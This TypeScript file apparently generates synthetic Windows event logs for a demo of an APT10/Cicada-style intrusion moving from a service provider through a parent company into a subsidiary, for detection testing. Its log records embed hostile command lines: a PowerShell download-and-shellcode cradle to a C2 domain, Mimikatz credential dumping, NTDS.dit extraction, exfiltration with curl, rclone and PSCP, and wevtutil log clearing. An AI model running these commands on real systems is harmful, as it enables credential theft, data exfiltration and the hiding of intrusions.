// The Cicada-style campaign woven into the demo: every behaviour row of campaign.md, in the provider first,
// then the Japanese parent, then one subsidiary, with quiet weeks between stages. Returns plain stage plans
// (host + EventSpec per malicious event); the generator merges them into each host's timeline.
import type { EventSpec } from '../evtx/writer-types.js';
import {
  esentDatabase,
  netlogonVulnerableAllowed,
  psScriptBlock,
  secComputerChanged,
  secDirectoryOperation,
  secExplicitCredentials,
  secLogCleared,
  secLogon,
  secShareAccess,
  secSpecialPrivileges,
  secTaskCreated,
  sysLogCleared,
  sysServiceInstalled,
  sysmonDns,
  sysmonFile,
  sysmonImageLoad,
  sysmonNetwork,
  sysmonProcess,
} from './events.js';
import type { Prng } from './prng.js';
import type { DemoAccount, DemoHost, DemoTenant, DemoWorld } from './tenants.js';

const DAY = 86_400_000;
const HOUR = 3_600_000;
const MINUTE = 60_000;

export interface StageEvent {
  readonly host: DemoHost;
  readonly spec: EventSpec;
}

/** One malicious stage: what happened, which campaign.md row it is, and its events. */
export interface StagePlan {
  readonly id: string;
  readonly name: string;
  /** Behaviour row number in campaign.md. */
  readonly row: number;
  readonly techniques: readonly string[];
  readonly tenantId: string;
  readonly events: StageEvent[];
}

export interface CampaignPlan {
  readonly stages: StagePlan[];
  /** Tenants in the order the intruder reached them. */
  readonly hopOrder: string[];
  readonly compromisedAccounts: string[];
  readonly c2Domain: string;
  readonly c2Ip: string;
  readonly attackerIp: string;
}

const C2_WORDS = ['update', 'sync', 'cdn', 'portal', 'cloud', 'support', 'docs', 'mail', 'secure', 'office'];
const C2_TLDS = ['net', 'org', 'info', 'biz'];

/** Plans the whole campaign for one world and seed. */
export function planCampaign(world: DemoWorld, rng: Prng): CampaignPlan {
  const msp = world.provider;
  const jp = world.parent;
  const mx = rng.pick(world.subsidiaries);
  const jump = msp.hosts.find((h) => h.role === 'jump_host')!;
  const jpDc = rng.pick(jp.hosts.filter((h) => h.role === 'domain_controller'));
  const jpFs = rng.pick(jp.hosts.filter((h) => h.role === 'file_server'));
  const jpExchange = jp.hosts.find((h) => h.role === 'exchange')!;
  const mxFs = rng.pick(mx.hosts.filter((h) => h.role === 'file_server'));
  const mxDc = rng.pick(mx.hosts.filter((h) => h.role === 'domain_controller'));
  const mxWs = rng.pick(mx.hosts.filter((h) => h.role === 'workstation'));
  const tech = rng.pick(world.technicians.filter((t) => t.assigned === jp.id));
  const techAt = (t: DemoTenant): DemoAccount => ({
    user: tech.user,
    domain: t.netbios,
    sid: `${t.domainSid}-${1700 + (tech.user.length % 50)}`,
  });
  const stolenAdmin = jp.admins[0];
  const c2Domain = `${rng.pick(C2_WORDS)}-${rng.pick(C2_WORDS)}${rng.int(2, 99)}.${rng.pick(C2_TLDS)}`;
  const c2Ip = `${rng.pick([45, 103, 104, 139, 185])}.${rng.int(1, 254)}.${rng.int(1, 254)}.${rng.int(1, 254)}`;
  const attackerIp = `${rng.pick([27, 61, 112, 118, 202])}.${rng.int(1, 254)}.${rng.int(1, 254)}.${rng.int(1, 254)}`;
  const dropbox = '162.125.6.14';
  const days = world.days;
  // Stage days as fractions of the period, jittered per seed; quiet weeks between them.
  const dayAt = (fraction: number, hour: number) =>
    world.start + Math.floor(fraction * days) * DAY + Math.floor((hour + rng.next()) * HOUR);
  const zerologonFirst = rng.chance(0.5);

  const stages: StagePlan[] = [];
  const stage = (
    id: string,
    name: string,
    row: number,
    techniques: string[],
    tenant: DemoTenant,
  ): StageEvent[] => {
    const events: StageEvent[] = [];
    stages.push({ id, name, row, techniques, tenantId: tenant.id, events });
    return events;
  };
  const who = (a: DemoAccount) => `${a.domain}\\${a.user}`;
  const cmdExe = 'C:\\Windows\\System32\\cmd.exe';
  const loaderDir = 'C:\\ProgramData\\Oracle\\Java';
  const policytool = `${loaderDir}\\policytool.exe`;
  const mspTech = techAt(msp);
  const jpTech = techAt(jp);
  const mxTech = techAt(mx);

  // Row 1: in through the provider's remote access, with a technician's valid account, at night.
  {
    const ev = stage(
      'initial-access',
      'Provider remote access with a stolen technician account',
      1,
      ['T1199', 'T1078'],
      msp,
    );
    const t = dayAt(0.06, 1);
    ev.push({
      host: jump,
      spec: secLogon(jump, t, {
        account: mspTech,
        logonType: 10,
        ip: attackerIp,
        workstation: 'DESKTOP-7G2K1QF',
        logonId: '0x7a1f3c',
      }),
    });
    ev.push({ host: jump, spec: secSpecialPrivileges(jump, t + 20, mspTech, '0x7a1f3c') });
  }
  // Row 6 + 15: DLL side-loading on the jump host (Ecipekac: policytool.exe + jli.dll), then C2.
  {
    const ev = stage(
      'dll-side-loading',
      'Ecipekac-style loader side-loaded by policytool.exe',
      6,
      ['T1574.001', 'T1553.002'],
      msp,
    );
    const t = dayAt(0.06, 2);
    const user = who(mspTech);
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t, { image: 'C:\\Windows\\Explorer.EXE', target: policytool, user }),
    });
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t + 2000, {
        image: 'C:\\Windows\\Explorer.EXE',
        target: `${loaderDir}\\jli.dll`,
        user,
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonProcess(jump, t + 60_000, {
        image: policytool,
        commandLine: `"${policytool}"`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        description: 'Policy Tool',
        company: 'Oracle Corporation',
        originalFileName: 'policytool.exe',
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonImageLoad(jump, t + 60_500, {
        image: policytool,
        loaded: `${loaderDir}\\jli.dll`,
        user,
        hashes: 'MD5=BE53764063BB1D054D78F2BF08FB90F3',
        signature: 'Oracle America, Inc.',
      }),
    });
  }
  {
    const ev = stage(
      'command-and-control',
      'Implant beaconing to its C2 and a VNC server for hands-on access',
      15,
      ['T1071.001', 'T1219'],
      msp,
    );
    const user = who(mspTech);
    for (let i = 0; i < 4; i++) {
      const t = dayAt(0.06 + i * 0.15, 3);
      ev.push({ host: jump, spec: sysmonDns(jump, t, { image: policytool, query: c2Domain, result: c2Ip }) });
      ev.push({
        host: jump,
        spec: sysmonNetwork(jump, t + 400, {
          image: policytool,
          user,
          destinationIp: c2Ip,
          destinationPort: 443,
          destinationHostname: c2Domain,
        }),
      });
    }
    const vnc = 'C:\\ProgramData\\VNC\\winvnc.exe';
    const tv = dayAt(0.5, 2);
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, tv, {
        image: vnc,
        commandLine: `"${vnc}" -install`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(jpTech),
        originalFileName: 'WinVNC.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysServiceInstalled(jpFs, tv + 3000, {
        name: 'uvnc_service',
        path: `"${vnc}" -service`,
        sid: 'S-1-5-18',
      }),
    });
  }
  // Row 2: Exchange exploitation in the parent (w3wp spawning a shell).
  {
    const ev = stage('exchange-exploitation', 'Exchange worker process spawning a shell', 2, ['T1190'], jp);
    const t = dayAt(0.04 + rng.next() * 0.12, 16);
    const w3wp = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
    const pool =
      'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeECPAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config"';
    ev.push({
      host: jpExchange,
      spec: sysmonProcess(jpExchange, t, {
        image: cmdExe,
        commandLine: 'cmd.exe /c whoami /all',
        parentImage: w3wp,
        parentCommandLine: pool,
        user: 'NT AUTHORITY\\SYSTEM',
        originalFileName: 'Cmd.Exe',
      }),
    });
    ev.push({
      host: jpExchange,
      spec: sysmonProcess(jpExchange, t + 40_000, {
        image: cmdExe,
        commandLine: 'cmd.exe /c net group "domain admins" /domain',
        parentImage: w3wp,
        parentCommandLine: pool,
        user: 'NT AUTHORITY\\SYSTEM',
        originalFileName: 'Cmd.Exe',
      }),
    });
  }
  // Row 5: tool ingress with a renamed certutil on the jump host.
  {
    const ev = stage(
      'tool-ingress',
      'Payload decoded with a renamed certutil',
      5,
      ['T1105', 'T1140', 'T1036.003'],
      msp,
    );
    const t = dayAt(0.22, 14);
    const cu = `${loaderDir}\\cu.exe`;
    ev.push({
      host: jump,
      spec: sysmonProcess(jump, t, {
        image: cu,
        commandLine: `${cu} -decode ${loaderDir}\\update.txt ${loaderDir}\\r.exe`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(mspTech),
        originalFileName: 'CertUtil.exe',
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t + 1500, { image: cu, target: `${loaderDir}\\r.exe`, user: who(mspTech) }),
    });
  }
  // Row 4: execution through a modified wmiexec.vbs (t.vbs in C:\Recovery), PowerSploit, InstallUtil.
  {
    const ev = stage(
      'execution-wmiexec',
      "wmiexec.vbs (t.vbs) from C:\\Recovery into the parent's file server",
      4,
      ['T1047', 'T1059.001', 'T1059.003', 'T1218.004'],
      jp,
    );
    const t = dayAt(0.27, 10);
    const cscript = 'C:\\Windows\\System32\\cscript.exe';
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t, { image: cmdExe, target: 'C:\\Recovery\\t.vbs', user: who(mspTech) }),
    });
    ev.push({
      host: jump,
      spec: sysmonProcess(jump, t + 30_000, {
        image: cscript,
        commandLine: `cscript.exe //nologo C:\\Recovery\\t.vbs /shell ${jpFs.name}`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(mspTech),
        originalFileName: 'cscript.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: secLogon(jpFs, t + 31_000, {
        account: jpTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x9c2e11',
        authPackage: 'NTLM',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 32_000, {
        image: cmdExe,
        commandLine: `cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__${Math.floor(t / 1000)} 2>&1`,
        parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
        parentCommandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
        user: who(jpTech),
        originalFileName: 'Cmd.Exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: psScriptBlock(
        jpFs,
        t + 90_000,
        `IEX (New-Object Net.WebClient).DownloadString('http://${c2Domain}/a'); Invoke-Shellcode -Shellcode $buf -ProcessID (Get-Process explorer).Id -Force`,
      ),
    });
    const iu = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe';
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 150_000, {
        image: iu,
        commandLine: `${iu} /logfile= /LogToConsole=false /U C:\\ProgramData\\Oracle\\Java\\ju.dll`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(jpTech),
        originalFileName: 'InstallUtil.exe',
      }),
    });
  }
  // Row 10 + 9 + 12 on the staging host within one day: recon, credential dumping, a first encrypted archive.
  const reconDay = 0.32;
  {
    const ev = stage(
      'ad-recon',
      'AD reconnaissance with AdFind, csvde, net view and nbtscan',
      10,
      ['T1087.002', 'T1018', 'T1016', 'T1119'],
      jp,
    );
    const t = dayAt(reconDay, 9);
    const user = who(jpTech);
    const adfind = 'C:\\Windows\\Temp\\adfind.exe';
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t, {
        image: adfind,
        commandLine: `${adfind} -f (objectcategory=computer) -csv name operatingSystem dNSHostName`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'AdFind.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 60_000, {
        image: adfind,
        commandLine: `${adfind} -gcb -sc trustdmp`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'AdFind.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 180_000, {
        image: 'C:\\Windows\\System32\\csvde.exe',
        commandLine: 'csvde -f C:\\windows\\web\\ss.log -r (objectClass=user)',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'csvde.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 240_000, {
        image: 'C:\\Windows\\System32\\net.exe',
        commandLine: 'net view /domain',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'net.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 300_000, {
        image: 'C:\\Windows\\Temp\\nbt.exe',
        commandLine: `C:\\Windows\\Temp\\nbt.exe ${jp.subnet}.0/24`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'nbtscan.exe',
      }),
    });
  }
  {
    const ev = stage(
      'credential-dumping',
      'Mimikatz (Pd.exe) on the staging host',
      9,
      ['T1003.001', 'T1003.004'],
      jp,
    );
    const t = dayAt(reconDay, 13);
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t, {
        image: 'C:\\Windows\\Temp\\Pd.exe',
        commandLine: 'C:\\Windows\\Temp\\Pd.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(jpTech),
        originalFileName: 'mimikatz.exe',
      }),
    });
  }
  const rar = `${loaderDir}\\r.exe`;
  {
    const ev = stage(
      'staging',
      'Share data packed into password-protected RAR archives in the Recycle Bin',
      12,
      ['T1560.001', 'T1074.001', 'T1039'],
      jp,
    );
    const t = dayAt(reconDay, 18);
    const user = who(jpTech);
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t, {
        image: rar,
        commandLine: `${rar} a -hpQx7!mR2v -m5 C:\\$Recycle.Bin\\dds.rar \\\\${jpFs.name}\\Engineering\\*.dwg`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'Rar.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonFile(jpFs, t + 20_000, { image: rar, target: 'C:\\$Recycle.Bin\\dds.rar', user }),
    });
    const t2 = dayAt(0.7, 20);
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t2, {
        image: rar,
        commandLine: `${rar} a -hpQx7!mR2v -m5 -v200m C:\\$Recycle.Bin\\ss.rar \\\\${jpFs.name}\\HR\\* \\\\${jpFs.name}\\Finance\\Audit\\*`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user,
        originalFileName: 'Rar.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonFile(jpFs, t2 + 60_000, { image: rar, target: 'C:\\$Recycle.Bin\\ss.part1.rar', user }),
    });
    ev.push({ host: jpFs, spec: secShareAccess(jpFs, t2 + 3 * HOUR, jpTech, 'C$', jump.ip) });
  }
  // Row 8 + 9: Zerologon against a parent DC, then NTDS.dit via ntdsutil and DCSync.
  const zlDay = zerologonFirst ? 0.42 : 0.5;
  {
    const ev = stage(
      'zerologon',
      'Zerologon (CVE-2020-1472) against a domain controller',
      8,
      ['T1210', 'T1068'],
      jp,
    );
    const t = dayAt(zlDay, 2);
    ev.push({ host: jpDc, spec: netlogonVulnerableAllowed(jpDc, t, jpFs.name, jp.netbios, jpFs.ip) });
    ev.push({
      host: jpDc,
      spec: secComputerChanged(jpDc, t + 900, {
        subjectUser: 'ANONYMOUS LOGON',
        subjectDomain: 'NT AUTHORITY',
        subjectSid: 'S-1-5-7',
        target: `${jpDc.name}$`,
        domain: jp.netbios,
        passwordLastSet: new Date(t).toLocaleString('en-US', { timeZone: 'UTC' }),
      }),
    });
  }
  {
    const ev = stage(
      'ntds-dump',
      'NTDS.dit copied with ntdsutil IFM, and DCSync',
      9,
      ['T1003.003', 'T1003.006'],
      jp,
    );
    const t = dayAt(zlDay, 4);
    const ntdsutil = 'C:\\Windows\\System32\\ntdsutil.exe';
    ev.push({
      host: jpDc,
      spec: sysmonProcess(jpDc, t, {
        image: ntdsutil,
        commandLine: 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(stolenAdmin),
        originalFileName: 'ntdsutil.exe',
      }),
    });
    ev.push({
      host: jpDc,
      spec: esentDatabase(jpDc, t + 5000, 325, 'NTDS', 'C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit'),
    });
    ev.push({
      host: jpDc,
      spec: esentDatabase(jpDc, t + 9000, 326, 'NTDS', 'C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit'),
    });
    ev.push({
      host: jpDc,
      spec: sysmonFile(jpDc, t + 12_000, {
        image: ntdsutil,
        target: 'C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit',
        user: who(stolenAdmin),
      }),
    });
    ev.push({
      host: jpDc,
      spec: secDirectoryOperation(
        jpDc,
        t + HOUR,
        stolenAdmin,
        '%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}',
      ),
    });
  }
  // Row 7: persistence with a remote scheduled task on the DC.
  {
    const ev = stage(
      'persistence',
      'Remote scheduled task and service on the domain controller',
      7,
      ['T1053.005', 'T1543.003'],
      jp,
    );
    const t = dayAt(zlDay, 6);
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t, {
        image: 'C:\\Windows\\System32\\schtasks.exe',
        commandLine: `schtasks /create /s ${jpDc.name} /tn "Microsoft\\Windows\\Maintenance\\SyncCheck" /tr "${policytool}" /sc onstart /ru SYSTEM /f`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(stolenAdmin),
        originalFileName: 'schtasks.exe',
      }),
    });
    ev.push({
      host: jpDc,
      spec: secTaskCreated(
        jpDc,
        t + 800,
        stolenAdmin,
        '\\Microsoft\\Windows\\Maintenance\\SyncCheck',
        policytool,
      ),
    });
  }
  // Row 11: lateral movement into the subsidiary with the same technician account (cloud hopping).
  const lmDay = zerologonFirst ? 0.55 : 0.45;
  {
    const ev = stage(
      'lateral-movement',
      `Hop into the ${mx.country} subsidiary: RDP and renamed PsExec with the provider account`,
      11,
      ['T1021.001', 'T1021.002', 'T1569.002', 'T1078'],
      mx,
    );
    const t = dayAt(lmDay, 1);
    const psexe = `${loaderDir}\\psexe.exe`;
    ev.push({
      host: jump,
      spec: secExplicitCredentials(jump, t, {
        subject: mspTech,
        target: mxTech,
        server: mxFs.name,
        process: psexe,
        ip: mxFs.ip,
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonProcess(jump, t + 1000, {
        image: psexe,
        commandLine: `${psexe} \\\\${mxFs.name} -accepteula -s cmd.exe`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(mspTech),
        originalFileName: 'psexec.c',
      }),
    });
    ev.push({
      host: mxFs,
      spec: secLogon(mxFs, t + 2000, {
        account: mxTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x5d1e02',
        authPackage: 'NTLM',
      }),
    });
    ev.push({ host: mxFs, spec: secShareAccess(mxFs, t + 2500, mxTech, 'ADMIN$', jump.ip) });
    ev.push({
      host: mxFs,
      spec: sysServiceInstalled(mxFs, t + 3000, {
        name: 'PSEXESVC',
        path: '%SystemRoot%\\PSEXESVC.exe',
        sid: mxTech.sid,
      }),
    });
    ev.push({
      host: mxDc,
      spec: secLogon(mxDc, t + 2 * HOUR, {
        account: mxTech,
        logonType: 10,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x5d2f17',
      }),
    });
    ev.push({
      host: mxFs,
      spec: sysmonProcess(mxFs, t + 3 * HOUR, {
        image: rar,
        commandLine: `${rar} a -hpQx7!mR2v -m5 C:\\$Recycle.Bin\\pp.rar \\\\${mxFs.name}\\Sales\\*`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(mxTech),
        originalFileName: 'Rar.exe',
      }),
    });
  }
  // Row 3: the historic vector, a macro document decoding a payload with certutil, in the subsidiary.
  {
    const ev = stage(
      'spearphishing-macro',
      'Macro document decoding a payload with certutil',
      3,
      ['T1566.001', 'T1204.002', 'T1140'],
      mx,
    );
    const t = dayAt(lmDay + 0.05, 10);
    const owner = mxWs.owner ?? mx.users[0];
    ev.push({
      host: mxWs,
      spec: sysmonProcess(mxWs, t, {
        image: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: `certutil -decode C:\\Users\\${owner.user}\\AppData\\Local\\Temp\\inv.txt C:\\Users\\${owner.user}\\AppData\\Local\\Temp\\inv.exe`,
        parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        parentCommandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${owner.user}\\Downloads\\Factura_2020.doc"`,
        user: who(owner),
        originalFileName: 'CertUtil.exe',
        integrityLevel: 'Medium',
      }),
    });
  }
  // Row 13: exfiltration to cloud storage (renamed curl) and over SCP (PSCP renamed rundll32.exe).
  {
    const ev = stage(
      'exfiltration',
      'Archives uploaded to cloud storage and copied out over SCP',
      13,
      ['T1567.002', 'T1021.004', 'T1048'],
      jp,
    );
    const t = dayAt(0.72, 2);
    const curl = 'C:\\Windows\\Temp\\c.exe';
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t, {
        image: curl,
        commandLine: `${curl} -k -X POST https://content.dropboxapi.com/2/files/upload --header "Dropbox-API-Arg: {\\"path\\": \\"/bk/ss.part1.rar\\"}" -T C:\\$Recycle.Bin\\ss.part1.rar`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(jpTech),
        originalFileName: 'curl.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonDns(jpFs, t + 200, { image: curl, query: 'content.dropboxapi.com', result: dropbox }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonNetwork(jpFs, t + 400, {
        image: curl,
        user: who(jpTech),
        destinationIp: dropbox,
        destinationPort: 443,
        destinationHostname: 'content.dropboxapi.com',
      }),
    });
    const rclone = 'C:\\ProgramData\\rc\\rclone.exe';
    const t3 = dayAt(0.73, 1);
    ev.push({
      host: mxFs,
      spec: sysmonProcess(mxFs, t3, {
        image: rclone,
        commandLine: `${rclone} copy C:\\$Recycle.Bin\\pp.rar mega:bk --config C:\\ProgramData\\rc\\rc.conf -q`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(mxTech),
        originalFileName: 'rclone.exe',
      }),
    });
    const pscp = 'C:\\ProgramData\\rundll32.exe';
    const t2 = dayAt(0.72, 4);
    ev.push({
      host: jump,
      spec: sysmonProcess(jump, t2, {
        image: pscp,
        commandLine: `${pscp} -batch -pw Xu8!kd C:\\ProgramData\\pp.rar sync@${c2Ip}:/srv/u/`,
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(mspTech),
        originalFileName: 'PSCP',
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonNetwork(jump, t2 + 500, {
        image: pscp,
        user: who(mspTech),
        destinationIp: c2Ip,
        destinationPort: 22,
      }),
    });
  }
  // Row 14: clean-up, clearing PowerShell logs and the Security log.
  {
    const ev = stage(
      'log-clearing',
      'PowerShell and Security logs cleared with wevtutil',
      14,
      ['T1070.001', 'T1070.003'],
      jp,
    );
    const t = dayAt(0.74, 3);
    const wevtutil = 'C:\\Windows\\System32\\wevtutil.exe';
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t, {
        image: wevtutil,
        commandLine: 'wevtutil cl "Windows PowerShell"',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(jpTech),
        originalFileName: 'wevtutil.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 2000, {
        image: wevtutil,
        commandLine: 'wevtutil cl Microsoft-Windows-PowerShell/Operational',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(jpTech),
        originalFileName: 'wevtutil.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysLogCleared(jpFs, t + 2100, jpTech, 'Microsoft-Windows-PowerShell/Operational'),
    });
    ev.push({
      host: jpDc,
      spec: sysmonProcess(jpDc, t + HOUR, {
        image: wevtutil,
        commandLine: 'wevtutil cl Security',
        parentImage: cmdExe,
        parentCommandLine: `"${cmdExe}"`,
        user: who(stolenAdmin),
        originalFileName: 'wevtutil.exe',
      }),
    });
    ev.push({ host: jpDc, spec: secLogCleared(jpDc, t + HOUR + 100, stolenAdmin) });
  }
  // The cross-tenant pattern itself, as its own stage: one provider account on hosts of three tenants.
  {
    const ev = stage(
      'cross-tenant-hop',
      'One provider account logging on across the provider, the parent and the subsidiary',
      1,
      ['T1078', 'T1199'],
      mx,
    );
    const t = dayAt(lmDay, 5);
    ev.push({
      host: jpDc,
      spec: secLogon(jpDc, t, {
        account: jpTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x6e0a41',
        authPackage: 'NTLM',
      }),
    });
    ev.push({
      host: mxDc,
      spec: secLogon(mxDc, t + 30 * MINUTE, {
        account: mxTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x6e0b52',
        authPackage: 'NTLM',
      }),
    });
    ev.push({
      host: jump,
      spec: secLogon(jump, t - 10 * MINUTE, {
        account: mspTech,
        logonType: 3,
        ip: attackerIp,
        workstation: 'DESKTOP-7G2K1QF',
        logonId: '0x6e0c63',
        authPackage: 'NTLM',
      }),
    });
  }
  for (const s of stages) s.events.sort((a, b) => +a.spec.time - +b.spec.time);
  return {
    stages,
    hopOrder: [msp.id, jp.id, mx.id],
    compromisedAccounts: [
      `${msp.netbios}\\${tech.user}`,
      `${jp.netbios}\\${tech.user}`,
      `${mx.netbios}\\${tech.user}`,
      `${jp.netbios}\\${stolenAdmin.user}`,
    ],
    c2Domain,
    c2Ip,
    attackerIp,
  };
}
